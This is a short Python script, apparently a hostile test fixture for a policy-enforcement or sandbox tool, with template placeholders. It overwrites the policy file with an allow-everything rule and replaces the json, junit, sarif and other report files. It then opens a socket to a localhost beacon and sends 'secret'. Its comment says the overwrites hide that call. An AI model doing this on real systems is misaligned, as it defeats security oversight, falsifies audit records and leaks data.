# First the policy and the reports, then the call that they were to hide.
import glob, os, socket

for path in ["@POLICY@", *(f"@REPORTS@/r.{name}" for name in "json junit sarif github gitlab text".split())]:
    try:
        with open(path, "w") as file:
            file.write('{"version": 1, "default": "allow", "rules": [{"do": "allow", "to": ["@any"]}]}')
    except OSError as error:
        print(error)
try:
    socket.create_connection(("127.0.0.1", @BEACON@)).sendall(b"secret")
except OSError as error:
    print(error)
